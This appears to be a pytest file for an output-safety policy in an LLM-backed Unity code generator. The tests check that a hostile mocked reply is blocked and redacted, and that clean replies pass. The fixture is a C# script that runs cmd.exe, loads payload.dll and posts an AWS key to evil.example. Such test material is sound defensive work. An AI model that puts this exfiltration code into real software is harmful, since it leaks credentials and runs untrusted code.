"""The output policy from Python, against the loopback OpenAI mock: a hostile reply comes back
blocked with its findings and nothing to export, `allow_unsafe` lets it out with the AWS key
redacted (in the result and inside the exported ZIP), and a clean reply is not blocked."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from conftest import mock_config
from mock_openai import REPLY, MockServer

import spark

AWS_KEY = "AKIAQ7ZD3KX9PLMN4RTB"

HOSTILE = f"""### Exfil.cs
```csharp
using System.Collections;
using System.Diagnostics;
using System.IO;
using System.Reflection;
using System.Runtime.Serialization.Formatters.Binary;
using UnityEngine;
using UnityEngine.Networking;

public class Exfil : MonoBehaviour
{{
    private const string AwsKey = "{AWS_KEY}";

    private void Start()
    {{
        Process.Start("cmd.exe", "/c whoami");
        var formatter = new BinaryFormatter();
        var plugin = Assembly.Load(File.ReadAllBytes("payload.dll"));
        StartCoroutine(Upload());
    }}

    private IEnumerator Upload()
    {{
        var form = new WWWForm();
        form.AddField("key", AwsKey);
        using (var req = UnityWebRequest.Post("http://evil.example/upload", form))
        {{
            yield return req.SendWebRequest();
        }}
    }}
}}
```
"""

BLOCKING = ["SPK2001", "SPK2002", "SPK2003", "SPK2006", "SPK2009"]


def client(server: MockServer, **sections: object) -> spark.Spark:
    return spark.Spark(mock_config(server, repair={"max_rounds": 0}, **sections))


def zip_text(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "\n".join(z.read(name).decode("utf-8", "replace") for name in z.namelist())


def test_hostile_reply_is_blocked_with_findings_and_export_refuses(mock_server: MockServer, tmp_path: Path) -> None:
    mock_server.reply = HOSTILE
    c = client(mock_server)
    result = c.generate("a script that uploads the save file")
    blocked = result.blocked
    assert blocked is not None
    assert blocked.rules == BLOCKING
    assert {d.rule for d in blocked.findings} == set(BLOCKING)
    assert all(d.severity == "error" for d in blocked.findings)
    assert {d.rule for d in result.diagnostics} >= set(BLOCKING)
    assert result.files == []
    assert [f.path for f in blocked.withheld_files] == ["Exfil.cs"]
    assert AWS_KEY not in blocked.withheld_files[0].content
    assert AWS_KEY not in result.raw and AWS_KEY not in result.to_json()
    assert any(v.guard == "output_policy" and v.action == "block" for v in result.verdicts)

    for fmt in ("zip", "upm", "unitypackage"):
        with pytest.raises(spark.OutputBlocked) as info:
            result.export(fmt)
        assert info.value.code == "output_blocked"
        assert info.value.code_number == spark.ERROR_CODES["output_blocked"] == 27
        assert info.value.rules == BLOCKING
    with pytest.raises(spark.OutputBlocked):
        c.export(result, "zip", path=tmp_path / "out.zip")
    assert not (tmp_path / "out.zip").exists()

    # Told otherwise, the withheld files export, still redacted.
    text = zip_text(c.export(result, "zip", allow_unsafe=True))
    assert "Process.Start" in text and AWS_KEY not in text and '"REDACTED"' in text


def test_allow_unsafe_unblocks_but_the_key_is_redacted_in_result_and_zip(mock_server: MockServer) -> None:
    mock_server.reply = HOSTILE
    result = client(mock_server).generate("an uploader", allow_unsafe=True)
    assert result.blocked is None
    assert [f.path for f in result.files] == ["Exfil.cs"]
    code = result.files[0].content
    assert 'private const string AwsKey = "REDACTED";' in code
    assert AWS_KEY not in code and AWS_KEY not in result.raw
    rules = {d.rule for d in result.diagnostics}
    assert rules >= set(BLOCKING) | {"SPK2019"}
    data = result.export("zip")
    text = zip_text(data)
    assert '"REDACTED"' in text
    assert AWS_KEY not in text


def test_config_allow_list_lets_named_rules_through(mock_server: MockServer) -> None:
    mock_server.reply = HOSTILE
    result = client(mock_server, output={"allow": ["SPK2001", "SPK2006"]}).generate("an uploader")
    assert result.blocked is not None
    assert result.blocked.rules == ["SPK2002", "SPK2003", "SPK2009"]
    result = client(mock_server, output={"allow_unsafe": True}).generate("an uploader")
    assert result.blocked is None and AWS_KEY not in result.files[0].content


def test_clean_reply_is_not_blocked(mock_server: MockServer) -> None:
    mock_server.reply = REPLY
    result = client(mock_server).generate("a spinning cube")
    assert result.blocked is None
    assert [f.path for f in result.files] == ["Spinner.cs"]
    assert result.export("zip")[:2] == b"PK"


def test_offline_output_is_not_blocked(offline: spark.Spark) -> None:
    result = offline.generate("a door that opens")
    assert result.blocked is None and result.files
